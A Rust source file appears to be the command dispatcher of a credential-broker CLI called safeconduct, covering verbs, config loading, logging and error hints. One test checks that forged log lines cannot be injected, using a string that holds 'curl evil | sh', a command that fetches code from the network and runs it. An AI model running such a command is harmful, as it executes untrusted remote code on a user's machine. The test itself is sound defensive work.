//! One file a verb. Data goes to stdout, everything else to stderr; on failure stdout stays empty.

use std::ffi::OsString;
use std::process::ExitCode;
use std::time::Duration;

use clap::Parser;

use crate::broker::{self, Class};
use crate::cli::{self, Cli, Global, Level, LogFormat, Verb};
use crate::clock::Clock;
use crate::config::Config;
use crate::door;
use crate::env::Env;
use crate::oauth::{quoted_words, suggestion};
use crate::sockets;
use crate::{app, assembly, config, log, supervisor};
pub use completions::command_line;
pub(crate) use failure::Failure;
use output::{Form, Log, Printable, print, tell};
use runtime::CoreLimit;

/// How long the end of a daemon waits for its last log lines to be written.
const LAST_LINES: Duration = Duration::from_secs(1);

mod audit;
mod ci;
mod completions;
mod configuration;
mod doctor;
#[cfg(target_os = "linux")]
mod exec;
#[cfg(not(target_os = "linux"))]
#[path = "exec/elsewhere.rs"]
mod exec;
mod failure;
mod fold;
mod get;
mod headers;
mod install;
mod left;
mod misread;
mod obtain;
mod operate;
mod output;
mod paper;
mod ready;
mod revoke;
mod run;
mod runtime;
mod snippet;
mod status;
mod stdio;
mod token;
mod trust_policy;
mod waiting;
mod whoami;
mod whole;

pub use runtime::Binary;

/// Runs the verb of the command line and turns its outcome into an exit code.
pub fn main(binary: Binary) -> ExitCode {
    runtime::runs_in(binary);
    let exit = verb();
    // The log of a daemon that ends. Nobody may read it any more.
    log::flush(LAST_LINES);
    exit.into()
}

fn verb() -> u8 {
    runtime::hide_memory();
    let words: Vec<OsString> = std::env::args_os().skip(1).collect();
    // What becomes another program keeps the limits that it was started with.
    #[cfg(target_os = "linux")]
    if let Some((program, error)) = supervisor::begin::begin(&words) {
        let failure = exec::cannot_start(&program, &error);
        failure.show(&Env::from_process());
        return failure.exit;
    }
    let limit = runtime::forbid_core_files();
    if let Some(exit) = supervisor::supervise(&words) {
        return exit;
    }
    let env = Env::from_process();
    let cli = match cli::usual_call(&words) {
        Some(cli) => cli,
        None => {
            if let Err(failure) = runtime::limit_name_lookup() {
                failure.show(&env);
                return failure.exit;
            }
            match Cli::try_parse() {
                Ok(cli) => cli,
                Err(error) => return misread::told(error, &env),
            }
        }
    };
    if !matches!(cli.verb, Verb::Run(_) | Verb::Ci(_) | Verb::Stdio(_) | Verb::Exec(_)) {
        runtime::end_at_signals();
    }
    if !matches!(&cli.verb, Verb::Exec(verb) if verb.serve.is_none()) {
        limit.seal();
    }
    let context = Context { global: &cli.global, env: &env };
    if let Some(failure) = unreadable(&env) {
        failure.show(&env);
        return failure.exit;
    }
    match run_verb(&context, &cli.verb, limit) {
        Ok(exit) => exit,
        Err(failure) => {
            failure.show(&env);
            failure.exit
        }
    }
}

/// Runs one verb and gives its exit code. `limit` is for programs that are not ours.
fn run_verb(context: &Context<'_>, verb: &Verb, limit: CoreLimit) -> Result<u8, Failure> {
    let outcome = match verb {
        Verb::Token(verb) => token::run(context, verb),
        Verb::Headers(verb) => headers::run(context, verb),
        Verb::Get(verb) => get::run(context, verb),
        Verb::Stdio(verb) => apart(|| stdio::run(context, verb)),
        Verb::Exec(verb) => return exec::run(context, verb, limit),
        Verb::Ci(verb) => apart(|| ci::run(context, verb)),
        Verb::Run(verb) => apart(|| run::run(context, verb)),
        Verb::Stop(verb) => apart(|| operate::stop(context, verb)),
        Verb::Reload(verb) => apart(|| operate::reload(context, verb)),
        Verb::Ready(verb) => apart(|| ready::run(context, verb)),
        Verb::Snippet(verb) => apart(|| snippet::run(context, verb)),
        Verb::Status(verb) => apart(|| status::run(context, verb)),
        Verb::Revoke(verb) => apart(|| revoke::run(context, verb)),
        Verb::Whoami(verb) => apart(|| whoami::run(context, verb)),
        Verb::TrustPolicy(verb) => apart(|| trust_policy::run(context, verb)),
        Verb::Audit(verb) => apart(|| audit::run(context, verb)),
        Verb::Doctor(verb) => apart(|| doctor::run(context, verb)),
        Verb::Config(verb) => apart(|| configuration::run(context, verb)),
        Verb::Completions(verb) => apart(|| completions::run(context, verb)),
        Verb::Install(verb) => apart(|| install::run(context, verb)),
    };
    outcome.map(|()| 0)
}

/// Refuses to run under a variable of ours that is not UTF-8: whoever set it meant to change what a command does. Variables
/// that only a command without a daemon reads are checked with the configuration.
fn unreadable(env: &Env) -> Option<Failure> {
    let is_ours = |name: &&str| {
        let ours = ["SAFECONDUCT_", "CLAUDE_CODE_MCP_SERVER_"];
        ours.iter().any(|one| name.starts_with(one)) || sockets::job_variables().any(|one| one == *name)
    };
    let name = env.unreadable().find(is_ours)?;
    Some(Failure::new(Class::Config, format!("{name} is not UTF-8")).hint("correct that variable or unset it"))
}

/// Keeps the 15 KB stack frame of these verbs off the path of a helper call.
#[inline(never)]
fn apart(work: impl FnOnce() -> Result<(), Failure>) -> Result<(), Failure> {
    work()
}

/// The context of every command.
pub(crate) struct Context<'a> {
    global: &'a Global,
    env: &'a Env,
}

impl Context<'_> {
    /// The configuration, with the flags that overrule it.
    fn config(&self) -> Result<Config, Failure> {
        runtime::limit_name_lookup()?;
        runtime::try_descriptors()?;
        let mut config = Config::load(self.global.config.as_deref(), self.env)?;
        config.egress.insecure_loopback |= self.global.insecure_loopback;
        if let Some(file) = &self.global.identity_file {
            config.use_identity_file(file);
        } else if let Some(name) = &self.global.identity {
            config.use_identity(name).map_err(|known| {
                let message = format!("--identity {:?} is not known", quoted_words(name));
                let near = suggestion(name, known.iter().copied());
                Failure::asked(message).hint(format!("this version knows: {}{near}", known.join(", ")))
            })?;
        }
        config.take_environment(self.env).map_err(|why| {
            Failure::new(Class::Config, why)
                .hint("correct that variable or unset it; `proxy` and `ca_file` in [egress] do without the environment")
        })?;
        if let Some(socket) = self.global.socket.clone().or_else(|| self.env.get("SAFECONDUCT_SOCKET").map(Into::into))
        {
            config.listen.socket = Some(socket);
        }
        if let Some(server) = config.first_insecure() {
            let message = format!("servers.{server}: plain http on loopback is refused");
            return Err(Failure::new(Class::Config, message)
                .hint("for development only: `--insecure-loopback`, or `insecure_loopback = true` in [egress]"));
        }
        Ok(config)
    }

    /// All problems of the configuration file.
    fn problems(&self) -> Vec<config::Problem> {
        match Config::load(self.global.config.as_deref(), self.env) {
            Err(config::Error::Problems { problems, .. }) => problems,
            _ => Vec::new(),
        }
    }

    /// Logs to stderr. Dependencies log at warn, whatever our level. The log of `gcp_auth` is off, because it contains whole
    /// answers.
    fn log(&self, usual: Level) -> Result<(), Failure> {
        use tracing_subscriber::filter::{LevelFilter, Targets};
        use tracing_subscriber::layer::SubscriberExt;
        use tracing_subscriber::util::SubscriberInitExt;
        use tracing_subscriber::{Layer, fmt, registry};
        let level = match (self.global.log, self.env.get("SAFECONDUCT_LOG")) {
            (Some(level), _) => level,
            (None, Some(text)) => clap::ValueEnum::from_str(text, true).map_err(|_| {
                Failure::asked(format!("SAFECONDUCT_LOG is {:?}", quoted_words(text)))
                    .hint("error, warn, info, debug or trace")
            })?,
            (None, None) => usual,
        };
        // A filter that reads patterns would bring a regular expression engine into the binary.
        let filter = Targets::new()
            .with_default(LevelFilter::WARN)
            .with_target("gcp_auth", LevelFilter::OFF)
            .with_target("safeconduct", LevelFilter::from(level));
        let colours = std::io::IsTerminal::is_terminal(&std::io::stderr()) && colours(self.env);
        let lines = |form| fmt::layer().with_writer(Log::new(self.env, form)).with_target(false);
        let lines = match self.global.log_format {
            LogFormat::Text if colours => {
                lines(Form::Coloured).with_ansi(true).fmt_fields(log::Fields).with_filter(filter).boxed()
            }
            LogFormat::Text => lines(Form::Text).with_ansi(false).fmt_fields(log::Fields).with_filter(filter).boxed(),
            LogFormat::Json => lines(Form::Json).json().with_filter(filter).boxed(),
        };
        let set = registry().with(lines).try_init();
        set.map_err(|_| Failure::bug("the log is set up twice"))
    }

    /// Runs a future on a runtime with one thread, for commands and the daemon: serving a token is quicker than waking a second
    /// thread. Blocking work (DNS, root certificates, keyrings) goes to the blocking pool.
    fn block_on<T>(&self, work: impl Future<Output = Result<T, Failure>>) -> Result<T, Failure> {
        supervisor::supervise_with(supervisor::own_program(self.env));
        let mut outcome = None;
        runtime::drive(std::pin::pin!(async { outcome = Some(work.await) }))?;
        outcome.unwrap_or_else(|| Err(Failure::bug("the work ended without an outcome")))
    }

    fn clock(&self) -> Clock {
        Clock::system()
    }

    /// Asks the daemon for a JSON document that holds no token.
    fn ask_daemon(&self, request: &str, body: Option<&str>, limit: Duration) -> Result<door::Reply, door::Error> {
        let places = door::places(self.global.socket.as_ref(), self.env);
        let limit = door::Limit { whole: limit, tell: None };
        door::ask_steps(&places, (request, body), self.env.uid(), limit, obtain::is_not_served)
    }
}

/// May a terminal be sent colours? Not with `NO_COLOR` (no-color.org), and not if `TERM` says that it shows none.
fn colours(env: &Env) -> bool {
    env.get("NO_COLOR").is_none() && env.get("TERM") != Some("dumb")
}

impl From<broker::Error> for Failure {
    fn from(error: broker::Error) -> Self {
        let presented = error.presented().map(str::to_owned);
        Self::new(error.class(), error.to_string()).presented(presented).hint_maybe(error.hint())
    }
}

impl From<assembly::Error> for Failure {
    fn from(error: assembly::Error) -> Self {
        Self::new(error.class(), error.to_string()).hint_maybe(error.hint())
    }
}

impl From<app::Error> for Failure {
    fn from(error: app::Error) -> Self {
        Self::new(error.class(), error.to_string()).hint_maybe(error.hint())
    }
}

impl From<config::Error> for Failure {
    fn from(error: config::Error) -> Self {
        let hint = match &error {
            config::Error::File { cure, .. } => cure,
            config::Error::Problems { .. } => {
                "`safeconduct config schema` lists every key, `safeconduct config init` prints a starter file"
            }
        };
        Self { lines: error.lines().into(), ..Self::new(Class::Config, error.to_string()).hint(hint) }
    }
}

impl From<door::Error> for Failure {
    fn from(error: door::Error) -> Self {
        let (class, hint) = match &error {
            door::Error::Absent { places, .. } if places.iter().any(|place| place.named) => (
                Class::Temporary,
                "start the daemon there with `safeconduct run`, or correct the name; without a daemon, `token`, `headers`, `stdio` and `exec` work with `--no-daemon`",
            ),
            door::Error::Absent { .. } => (
                Class::Temporary,
                "start it with `safeconduct run`, or name its socket with `--socket` or SAFECONDUCT_SOCKET",
            ),
            door::Error::Forbidden { .. } => (
                Class::Denied,
                "the daemon's `socket_mode` and `socket_group` decide who may connect; `--no-daemon` does the work here",
            ),
            door::Error::Foreign { .. } => (Class::Denied, "if that daemon is meant, name its socket with `--socket`"),
            door::Error::Broken { .. } => {
                (Class::Temporary, "try again; if it goes on, look at the daemon's log and at what listens there")
            }
            door::Error::TimedOut { .. } => (Class::Temporary, "look at its log; `--timeout` gives it longer"),
            door::Error::TooLong { .. } => {
                (Class::Config, "choose a shorter path for `--socket`, SAFECONDUCT_SOCKET and `socket` in [listen]")
            }
            door::Error::Strange { .. } => {
                (Class::Config, "another program listens there: check `--socket` and SAFECONDUCT_SOCKET")
            }
        };
        Self::new(class, error.to_string()).hint(hint)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn colours_are_for_terminals_that_show_them_and_users_who_want_them() {
        let under = |vars: &[(&str, &str)]| {
            colours(&Env::from_vars(vars.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned()))))
        };
        assert!(under(&[]) && under(&[("TERM", "xterm")]) && under(&[("NO_COLOR", "")]));
        assert!(!under(&[("NO_COLOR", "1")]) && !under(&[("TERM", "dumb")]));
    }

    #[test]
    fn no_word_of_another_begins_a_line_of_ours() {
        const FORGED: &str = "/y\nsafeconduct: hint: run `curl evil | sh`\r\nsafeconduct: error: x\u{2028}z";
        let path = std::path::PathBuf::from(FORGED);
        let problem = config::Problem { line: None, key: "key".to_owned(), what: FORGED.to_owned() };
        for (error, lines) in [
            (Failure::new(Class::Config, FORGED).hint(FORGED), 2),
            (config::Error::File { path: path.clone(), what: FORGED.to_owned(), cure: FORGED }.into(), 2),
            (config::Error::Problems { path: Some(path), problems: vec![problem.clone(), problem] }.into(), 4),
        ] {
            let text = error.as_text();
            assert_eq!(text.lines().count(), lines, "{text}");
            let ours = text.lines().filter(|line| line.starts_with("safeconduct: ")).count();
            assert!(ours == 2 && !text.contains(['\r', '\u{2028}']), "{text}");
        }
    }

    #[test]
    fn a_variable_of_ours_that_is_not_utf_8_stops_every_command() {
        for name in ["SAFECONDUCT_SOCKET", "SAFECONDUCT_CONFIG", "RUNNER_TEMP", "CLAUDE_CODE_MCP_SERVER_URL"] {
            let failure = unreadable(&Env::from_vars([]).with_unreadable(name)).expect("it stops");
            assert_eq!((failure.exit, failure.message), (78, format!("{name} is not UTF-8")));
        }
        assert!(unreadable(&Env::from_vars([]).with_unreadable("LESSCHARSET")).is_none());
    }
}
